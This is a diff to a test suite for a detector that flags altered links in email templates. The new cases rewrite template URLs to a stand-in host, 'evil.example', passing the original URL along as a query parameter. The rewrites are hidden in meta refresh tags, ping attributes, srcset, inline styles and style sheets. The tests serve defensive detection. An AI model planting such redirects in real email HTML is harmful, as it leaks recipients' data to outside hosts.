@@ -103,8 +103,33 @@ describe('the links of an email', () => {
       ['! null → https://a.example/?n={{ name }}'],
     ],
     ['https://a.example', 'https://a.example, again: https://a.example/x', ['null → https://a.example/x']],
+    ['Hi', 'Hi, see www.evil.example', ['! null → www.evil.example']],
   ])('as text %j, then %j', (before, after, expected) => {
     expect(changes('txt', before, after)).toEqual(expected);
+  });
+
+  it.each([
+    ['an address in the text', '<p>{{ url }}</p>', '<p>https://evil.example/?u={{ url }}</p>'],
+    [
+      'a refresh',
+      '<meta http-equiv="refresh" content="5; url={{ url }}">',
+      '<meta http-equiv="refresh" content="5; url=https://evil.example/?u={{ url }}">',
+    ],
+    ['a ping', '<a ping="{{ url }}">', '<a ping="https://evil.example/?u={{ url }}">'],
+    ['a source set', '<img srcset="{{ url }} 2x">', '<img srcset="https://evil.example/?u={{ url }} 2x">'],
+    [
+      'a style',
+      '<p style="background: url({{ url }})">',
+      '<p style="background: url(\'https://evil.example/?u={{ url }}\')">',
+    ],
+    [
+      'a style sheet',
+      '<style>p { background: url({{ url }}) }</style>',
+      '<style>p { background: url(https://evil.example/?u={{ url }}) }</style>',
+    ],
+  ])('count in %s', (_, before, after) => {
+    expect(changes('html', before, after)).toEqual(['! {{ url }} → https://evil.example/?u={{ url }}']);
+    expect(changes('html', before, before)).toEqual([]);
   });
 
   it('of a body that is new are compared with the addresses of the other one', () => {
